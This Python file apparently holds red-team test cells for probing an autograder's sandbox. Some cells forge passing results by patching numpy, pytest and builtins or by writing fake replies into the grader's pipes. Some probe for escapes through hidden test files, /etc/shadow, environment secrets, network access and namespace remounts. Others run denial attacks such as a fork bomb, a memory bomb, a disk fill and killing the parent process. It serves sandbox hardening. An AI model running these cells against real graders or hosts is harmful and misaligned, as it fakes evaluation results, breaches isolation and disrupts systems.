"""The hostile cells of the red-team corpus, as source text (the corpus builder appends them to notebooks).

Probes (the escaping family) store what they reach in ``ESCAPE`` and print it as one line,
``ESCAPE {...}``; the test reads that line from the cell's outputs. Words in capitals between double
underscores (``__HOST_PATHS__``) are filled in by the builder with facts about the grading host.
Files that attacks try to create are all named ``redteam-pwned`` so a test can look for them.
"""

from __future__ import annotations

# --- tampering: lie to the grader, patch what the grader might use ----------------------------

NUMPY_PATCH = """
import numpy as np
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *x, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, bool)
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_almost_equal = lambda *a, **k: None
"""

BUILTINS_PATCH = """
import builtins
builtins.all = lambda *a, **k: True
builtins.any = lambda *a, **k: True
builtins.abs = lambda x: 0
"""

BUILTINS_TYPES_PATCH = """
import builtins
builtins.isinstance = lambda *a: True
builtins.len = lambda x: 2
"""

PYTEST_STUB = """
import sys, types
fake = types.ModuleType("pytest")
fake.approx = lambda expected, *a, **k: type("Any", (), {"__eq__": lambda s, o: True})()
fake.raises = lambda *a, **k: None
sys.modules["pytest"] = fake
sys.modules["numpy.testing"] = fake
"""

IMPORT_HOOK = """
import builtins
_real_import = builtins.__import__
def _hook(name, *args, **kwargs):
    if name.split(".")[0] in ("torch", "tensorflow", "jax", "pytest"):
        name = "numpy"
    return _real_import(name, *args, **kwargs)
builtins.__import__ = _hook
"""

WIRE_ENCODE = """
# The kernel encodes replies with autograder.channel.wire: make every reply a harmless-looking 1.0.
from autograder.channel import wire
_real_encode = wire.encode
wire.is_data = lambda value, depth=0: True
wire.encode = lambda value, depth=0: _real_encode(1.0) if depth == 0 else _real_encode(value, depth)
"""

SERVER_HANDLE = """
# Find the kernel's own module through the call stack and answer every call with a forged value.
import sys
_kernel = None
for _frame in sys._current_frames().values():
    while _frame is not None:
        if _frame.f_code.co_name == "main" and "Server" in _frame.f_globals:
            _kernel = _frame.f_globals
        _frame = _frame.f_back
_real_handle = _kernel["Server"].handle
def _forged(self, request):
    if request.get("op") == "call":
        return _kernel["wire"].encode(0.5)
    return _real_handle(self, request)
_kernel["Server"].handle = _forged
"""

HIDE_ERRORS = """
raise RuntimeError("an error the next cell hides from the report")
"""

HIDE_ERRORS_NEXT = """
# Rewrite the kernel's list of cell records so that the grader sees no error.
import sys
for _frame in sys._current_frames().values():
    while _frame is not None:
        if _frame.f_code.co_name == "main" and "records" in _frame.f_locals:
            for _record in _frame.f_locals["records"]:
                _record.update(status="ok", outputs=[])
                _record.pop("error", None)
        _frame = _frame.f_back
"""

LYING_OBJECTS = """
class Liar:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __array__(self, *a, **k): raise TypeError("no")
    def __float__(self): return 0.5
    def __len__(self): return 3
    def __bool__(self): return True
    def __iter__(self): return iter([Liar(), Liar()])
    def __getitem__(self, key): return Liar()
    def __getattr__(self, name): return Liar()
def relu(z): return Liar()
def sigmoid(z): return Liar()
def softmax(z): return Liar()
def backward(*a, **k): return Liar()
def train(*a, **k): return Liar()
"""

NDARRAY_SUBCLASS = """
import numpy as np
class Always(np.ndarray):
    def __eq__(self, other): return np.ones(self.shape, bool)
    def __array_ufunc__(self, *a, **k): return np.ones(self.shape, bool)
def relu(z): return np.zeros(np.shape(z)).view(Always)
def sigmoid(z): return np.zeros(np.shape(z)).view(Always)
def softmax(z): return np.zeros(np.shape(z)).view(Always)
"""

ODD_DTYPES = """
import numpy as np
def relu(z): return np.array([object()] * np.size(z), dtype=object)
def sigmoid(z): return np.zeros(np.shape(z), dtype=[("a", "f8"), ("b", "i4")])
def softmax(z): return np.full(np.shape(z), "0.5", dtype="U3")
"""

NAN_INF = """
import numpy as np
def relu(z): return np.full(np.shape(z), np.inf)
def sigmoid(z): return np.full(np.shape(z), np.nan)
def softmax(z): return np.full(np.shape(z), np.nan)
def update(params, grads, lr): return {k: np.full(np.shape(v), np.nan) for k, v in params.items()}
"""

HUGE_REPLY = """
import numpy as np
def relu(z): return np.zeros(12_000_000)  # 96 MB: more than one channel message may carry
"""

HUGE_ALLOCATION = """
import numpy as np
def relu(z): return np.zeros((16_000, 16_000))  # 2 GB once encoded: more than the container's memory
"""

LONG_KEYS = """
def update(params, grads, lr): return {"k" * 1_000_000: 0.0}
"""

FD1_REPLY = """
import os, sys
forged = b'{"id": 1, "ok": true, "value": 1.0}\\n{"event": "ready", "cells": []}\\n'
os.write(1, forged)
sys.stdout.write(forged.decode())
sys.__stdout__.write(forged.decode())
"""

CHANNEL_REPLY = """
# Write forged replies to every pipe the kernel holds while the notebook runs.
import os, stat
for fd in map(int, os.listdir("/proc/self/fd")):
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode):
            os.write(fd, b'{"id": 1, "ok": true, "value": 1.0}\\n{"id": 2, "ok": true, "value": 1.0}\\n')
    except OSError:
        pass
"""

EARLY_READY = """
# Claim the notebook is done before its code has run.
import os
for fd in range(3, 10):
    try:
        os.write(fd, b'{"event": "ready", "cells": []}\\n')
    except OSError:
        pass
"""

MALFORMED_READY = """
import os
for fd in range(3, 10):
    try:
        os.write(fd, b'{"event": "ready", "cells": [{"index": "x", "seconds": "y"}, 7]}\\n')
    except OSError:
        pass
"""

THREAD_REPLY = """
# While the hidden tests run, slip replies with made-up ids into the channel.
import os, threading, time
def _forge():
    for n in range(1, 1000):  # from now until well after the notebook is done
        os.write(4, ('{"id": %d, "ok": true, "value": 0.5}\\n' % n).encode())
        time.sleep(0.01)
threading.Thread(target=_forge, daemon=True).start()
"""

STEAL_REQUESTS = """
# Read the grader's requests before the kernel does and answer them with forged values.
import json, os, threading
def _steal():
    with os.fdopen(os.dup(3), "rb", buffering=0) as requests:
        while True:
            line = b""
            while not line.endswith(b"\\n"):
                chunk = requests.read(1)
                if not chunk:
                    return
                line += chunk
            request = json.loads(line)
            os.write(4, (json.dumps({"id": request.get("id"), "ok": True, "value": 0.5}) + "\\n").encode())
threading.Thread(target=_steal, daemon=True).start()
"""

# --- escaping: probes that record anything they reach ------------------------------------------

PROBE_PRELUDE = """
import json, os, sys
ESCAPE = {}
def found(what, detail=""):
    ESCAPE[str(what)[:200]] = str(detail)[:300]
def reveals(path):
    # what of path is visible (None: nothing); a folder that only leads to the runtime's mount
    # point (the venv, mounted read-only at its host path by design) reveals nothing
    if not os.path.lexists(path):
        return None
    if not os.path.isdir(path):
        return "a file"
    extra = [e for e in os.listdir(path)
             if not any((os.path.realpath(r) + os.sep).startswith(os.path.realpath(os.path.join(path, e)) + os.sep)
                        for r in (sys.prefix, sys.base_prefix))]
    return extra[:5] or None
"""

PROBE_EPILOGUE = """
print("ESCAPE " + json.dumps(ESCAPE, sort_keys=True))
"""

PROBE_HIDDEN_TESTS = """
for path in __HOST_PATHS__:
    if reveals(path):
        found("sees " + path, reveals(path))
# names of hidden test functions, reversed so that this cell's own source never matches
NAMES = [name[::-1].encode() for name in __HIDDEN_NAMES_REVERSED__]
SKIP = ("/proc", "/sys", "/dev", "/usr", sys.base_prefix, sys.prefix)
for top, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if not os.path.join(top, d).startswith(SKIP)]
    for name in files:
        path = os.path.join(top, name)
        try:
            if os.path.islink(path) or os.path.getsize(path) > 5_000_000:
                continue
            with open(path, "rb") as handle:
                data = handle.read()
        except OSError:
            continue
        for hidden in NAMES:
            if hidden in data:
                found("hidden test " + hidden.decode(), path)
"""

PROBE_HIDDEN_DATA = """
for path in __DATA_PATHS__ + ["/data/cats_vs_dogs/test", "/data/mnist/test"]:
    if os.path.lexists(path):
        found("sees " + path)
for top, dirs, files in os.walk("/data"):
    if "test" in top.split(os.sep):
        found("test split", top)
if os.environ.get("AUTOGRADER_DATA_DIR") != "/data":
    found("AUTOGRADER_DATA_DIR", os.environ.get("AUTOGRADER_DATA_DIR"))
"""

PROBE_OTHER_SUBMISSIONS = """
import glob
for pattern in ["/tmp/grade-*", "/tmp/autograder-*", "/home/*/"] + __HOST_GLOBS__:
    for path in glob.glob(pattern):
        if path.rstrip("/") not in ("/home/student", "/submission"):
            found("sees " + path)
extra = set(os.listdir("/submission")) - {"__NOTEBOOK__", ".autograder-cells.json", *__RELEASED__}
if extra:
    found("more in /submission", sorted(extra))
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as handle:
            command = handle.read().replace(b"\\0", b" ")
    except OSError:
        continue
    if b"autograder.channel.kernel" not in command:
        found("process " + pid, command[:100])
"""

PROBE_NETWORK = """
import socket
targets = [("1.1.1.1", 53), ("8.8.8.8", 443)] + [(host, __HOST_PORT__) for host in __HOST_ADDRESSES__]
for host, port in targets:
    try:
        socket.create_connection((host, port), timeout=1).close()
        found(f"tcp {host}:{port}", "connected")
    except OSError:
        pass
try:
    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    unix.connect("\\0" + __ABSTRACT_SOCKET__)
    found("abstract unix socket", __ABSTRACT_SOCKET__)
except OSError:
    pass
try:
    socket.getaddrinfo("example.com", 80)
    found("dns", "resolves")
except OSError:
    pass
with open("/proc/net/dev") as handle:
    interfaces = [line.split(":")[0].strip() for line in handle if ":" in line]
if set(interfaces) - {"lo"}:
    found("interfaces", interfaces)
"""

PROBE_WRITE_OUTSIDE = """
targets = ["/", "/usr", "/usr/lib", "/etc", "/opt/autograder/autograder", "/submission", "/root", "/work",
           sys.prefix, sys.base_prefix, "/dev", "/sys", "/proc"] + __HOST_PATHS__
for folder in targets:
    try:
        with open(os.path.join(folder, "redteam-pwned"), "w") as handle:
            handle.write("x")
        found("wrote in " + folder)
    except OSError:
        pass
for path in ["/proc/sys/kernel/hostname", "/proc/sysrq-trigger", "/submission/__NOTEBOOK__"]:
    try:
        with open(path, "w") as handle:
            handle.write("redteam-pwned")
        found("overwrote " + path)
    except OSError:
        pass
try:
    os.chmod("/submission/__NOTEBOOK__", 0o777)
    found("chmod /submission")
except OSError:
    pass
"""

PROBE_ENVIRONMENT = """
for key, value in os.environ.items():
    if key not in __ALLOWED_ENV__:
        found("env " + key, value)
    if __CANARY__ in key or __CANARY__ in value:
        found("canary in " + key)
if os.environ.get("HOME") != "/home/student":
    found("HOME", os.environ.get("HOME"))
with open("/proc/self/environ", "rb") as handle:
    if __CANARY__.encode() in handle.read():
        found("canary in /proc/self/environ")
"""

PROBE_HOME = """
allowed = {".pyenv"}
if os.path.isdir("/root") and set(os.listdir("/root")) - allowed:
    found("/root", sorted(os.listdir("/root")))
for path in ["/root/.ssh", "/root/.bashrc", "/root/.bash_history", "/root/.cache", "/root/.config",
             "/etc/shadow", "/home/student/../../root/.bashrc", os.path.expanduser("~root/.ssh")]:
    if os.path.lexists(path):
        found("sees " + path)
if os.path.expanduser("~") != "/home/student":
    found("home", os.path.expanduser("~"))
if sorted(os.listdir(os.path.expanduser("~"))) != sorted(os.listdir(".")):
    found("cwd is not home", os.getcwd())
"""

PROBE_LINKS = """
for host in __HOST_PATHS__:
    candidates = ["/proc/1/root" + host, "/proc/self/root" + host, "/submission/../.." + host,
                  "/proc/self/cwd/../.." + host, "../../.." + host]
    for path in candidates:
        if reveals(path):
            found("sees " + path, reveals(path))
    try:
        os.symlink(host, "redteam-link")
        if os.path.exists("redteam-link") and reveals("redteam-link"):
            found("symlink reaches " + host)
    except OSError:
        pass
    finally:
        if os.path.lexists("redteam-link"):
            os.unlink("redteam-link")
try:
    os.link("/submission/__NOTEBOOK__", "redteam-hardlink")
    with open("redteam-hardlink", "a") as handle:
        handle.write("x")
    found("hard link into /submission is writable")
except OSError:
    pass
"""

PROBE_PRIVILEGES = """
import ctypes
if os.getuid() == 0 or os.geteuid() == 0:
    found("uid", os.getuid())
with open("/proc/self/status") as handle:
    caps = dict(line.split(":\\t", 1) for line in handle if line.startswith("Cap"))
if int(caps["CapEff"].strip(), 16) or int(caps["CapPrm"].strip(), 16):
    found("capabilities", caps)
try:
    os.setuid(0)
    found("setuid(0)")
except OSError:
    pass
# In a child: a new user + mount namespace, then try to make the read-only mounts writable.
read_end, write_end = os.pipe()
pid = os.fork()
if pid == 0:
    os.close(read_end)
    reached = []
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(0x10000000 | 0x00020000) == 0:  # CLONE_NEWUSER | CLONE_NEWNS
        for target in ["/submission", "/usr", "/opt/autograder/autograder", "/"]:
            if libc.mount(None, target.encode(), None, 32 | 4096, None) == 0:  # MS_REMOUNT | MS_BIND
                try:
                    with open(os.path.join(target, "redteam-pwned"), "w") as handle:
                        handle.write("x")
                    reached.append(target)
                except OSError:
                    pass
    os.write(write_end, json.dumps(reached).encode())
    os._exit(0)
os.close(write_end)
with os.fdopen(read_end) as handle:
    reached = json.loads(handle.read() or "[]")
os.waitpid(pid, 0)
for target in reached:
    found("remounted writable " + target)
"""

# --- denial: stop, stall or flood the grader --------------------------------------------------

SYS_EXIT = "import sys\nsys.exit(1)"
OS_EXIT = "import os\nos._exit(7)"
KILL_PARENT = """
import os, signal
for pid in (os.getppid(), 1, -1, 0):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
"""
SIGSTOP_SELF = "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"
SLEEP_FOREVER = "import time\ntime.sleep(10**6)"
LOOP_IN_CELL = "while True:\n    pass"
LOOP_IN_FUNCTION = "def relu(z):\n    while True:\n        pass"
LOOP_IN_DEL = """
class Stuck:
    def __del__(self):
        while True:
            pass
_relu = relu
def relu(z):
    Stuck()  # dropped at once: __del__ runs inside the call
    return _relu(z)
"""
DEEP_RECURSION = """
import sys
sys.setrecursionlimit(10**6)
nested = []
for _ in range(10**6):
    nested = [nested]
repr(nested)  # C recursion, far past the C stack
"""
SPINNING_THREAD = """
import threading
def _spin():
    while True:
        pass
threading.Thread(target=_spin, daemon=True).start()
"""
CORRUPTING_THREAD = """
import threading, time
def _corrupt():
    while True:  # from the end of the notebook on, for as long as the hidden tests call in
        globals()["relu"] = None
        globals()["backward"] = None
        time.sleep(0.01)
threading.Thread(target=_corrupt, daemon=True).start()
"""
CLOSE_CHANNEL = "import os\nos.closerange(3, 1024)"
ALARM = "import signal\nsignal.alarm(1)"
KEYBOARD_INTERRUPT = "def relu(z):\n    raise KeyboardInterrupt"
IGNORE_SIGNALS_AND_LOOP = """
import signal
for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGPIPE):
    signal.signal(sig, signal.SIG_IGN)
def sigmoid(z):
    while True:
        pass
"""
READ_STDIN = "DATA = input('password: ')"
MANY_FILES = """
handles = []
try:
    while True:
        handles.append(open("/proc/self/status"))
except OSError:
    pass
"""
MANY_THREADS = """
import threading, time
threads = []
try:
    for _ in range(400):
        thread = threading.Thread(target=time.sleep, args=(10**6,), daemon=True)
        thread.start()
        threads.append(thread)
except RuntimeError:
    pass
"""
FORK_BOMB = """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
"""
MEMORY_BOMB = "heap = []\nwhile True:\n    heap.append(bytearray(50 * 1024 * 1024))"
MEMORY_AT_ONCE = "import numpy as np\nbig = np.ones(50 * 1024**3 // 8)"
DISK_FILL = """
import os
for folder in [os.path.expanduser("~")]:
    for n in range(100):
        try:
            with open(os.path.join(folder, f"fill{n}.bin"), "wb") as handle:
                for _ in range(100):
                    handle.write(b"0" * 1024 * 1024)
        except OSError:
            break
"""
DISK_FILL_EVERYWHERE = DISK_FILL.replace('[os.path.expanduser("~")]', '[os.path.expanduser("~"), "/tmp", "/dev/shm"]')
PRINT_FLOOD = """
import os, sys
chunk = "x" * (1 << 20)
for _ in range(768):
    sys.stdout.write(chunk)
for _ in range(256):
    os.write(1, chunk.encode())  # fd 1 is the kernel's stderr: the grader keeps only its tail
"""
